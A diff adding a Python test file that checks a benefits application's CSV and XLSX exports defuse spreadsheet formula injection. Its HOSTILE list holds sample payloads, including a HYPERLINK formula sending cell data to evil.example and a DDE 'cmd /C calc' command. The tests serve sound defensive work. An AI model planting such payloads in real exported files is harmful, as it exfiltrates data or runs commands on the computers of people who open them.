@@ -1,0 +1,104 @@
+"""Hostile input that costs too much or outlives its purpose: formulas in exported spreadsheets,
+XLSX bombs, huge-dimension survival frames, and the files the application leaves on disk."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+from openpyxl import load_workbook
+from support import post_form, sql, staff_login
+from test_verification_pages import signed_in, upload
+from test_verification_rules import NUM, register
+
+from server.exports import FORMULA_STARTS, safe_cell
+
+SERVER = Path(__file__).resolve().parents[1] / "server"
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1+2", "＠SUM(A1)"]  # fmt: skip
+
+
+def live_formula(value) -> bool:
+    """What a spreadsheet program would run: text starting with a formula character that is not
+    just a number."""
+    return (
+        isinstance(value, str)
+        and value.startswith(FORMULA_STARTS)
+        and not re.fullmatch(r"[+-]?\d+(\.\d+)?", value)
+    )
+
+
+def test_safe_cell_keeps_numbers_and_plain_text_and_defuses_formulas():
+    assert [safe_cell(v) for v in (12, 3.5, "-12.50", "+86", "张三", "", None)] == [
+        12,
+        3.5,
+        "-12.50",
+        "+86",
+        "张三",
+        "",
+        None,
+    ]
+    for value in HOSTILE:
+        assert safe_cell(value) == "'" + value
+    assert safe_cell("王\x01五\x1f") == "王五"  # would make openpyxl refuse the whole export
+
+
+def test_no_spreadsheet_is_written_anywhere_but_through_server_exports():
+    """The whole class: a new export written with csv.writer or an openpyxl Workbook elsewhere in
+    server/ fails here (synth.py writes generated test data only)."""
+    offenders = []
+    for path in SERVER.rglob("*.py"):
+        if path.name in ("exports.py", "synth.py"):
+            continue
+        text = path.read_text(encoding="utf-8")
+        if re.search(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter", text):
+            offenders.append(str(path.relative_to(SERVER)))
+    assert offenders == []
+
+
+def test_payment_roll_csv_and_xlsx_carry_no_live_formula_and_amounts_stay_numbers(client, demo):
+    heads = sql(demo, "SELECT DISTINCT h.head_person_id FROM households h JOIN enrolments e ON e.household_id = h.id "
+                      "WHERE e.region_code LIKE '331102%' AND e.status = 'active' ORDER BY 1")  # fmt: skip
+    assert heads
+    for i, (person_id,) in enumerate(heads):
+        sql(demo, "UPDATE persons SET name = :n WHERE id = :i", n=HOSTILE[i % len(HOSTILE)], i=person_id)
+    staff_login(client, "district")
+    made = post_form(client, "/office/assistance/payments", {"month": "2026-12", "region_code": "331102"},
+                     follow_redirects=False)  # fmt: skip
+    roll = made.headers["location"].rsplit("/", 1)[1]
+    text = client.get(f"/office/assistance/payments/{roll}/export/csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    names = [r[2] for r in rows[1:-1]]
+    assert names and not any(live_formula(c) for r in rows for c in r)
+    assert {n.lstrip("'") for n in names} <= set(HOSTILE)
+    assert all(re.fullmatch(r"\d+\.\d\d", r[5]) for r in rows[1:])
+    xlsx = client.get(f"/office/assistance/payments/{roll}/export/xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" or live_formula(c.value) for c in cells)
+    amounts = [row[5].value for row in sheet.iter_rows(min_row=2)]
+    assert amounts and all(isinstance(a, (int, float)) for a in amounts)
+
+
+def test_verification_error_file_carries_no_live_formula(client, demo):
+    register(demo)
+    signed_in(client, demo)
+    bad = NUM["b"][:17] + ("0" if NUM["b"][17] != "0" else "1")
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerows(
+        [
+            ["公民身份号码", "姓名", "死亡日期"],
+            *([bad, v, "2026-10-01"] for v in HOSTILE),
+            ["=1+1", "=2+2", "@now"],
+        ]
+    )
+    response = upload(client, "deaths", out.getvalue().encode())
+    errors = client.get(response.headers["location"] + "/errors")
+    assert errors.status_code == 200
+    rows = list(csv.reader(io.StringIO(errors.content.decode("utf-8-sig"))))
+    assert len(rows) >= len(HOSTILE) + 1
+    assert not any(live_formula(c) for r in rows for c in r)
+    assert {r[3].lstrip("'") for r in rows[1:]} >= set(HOSTILE)
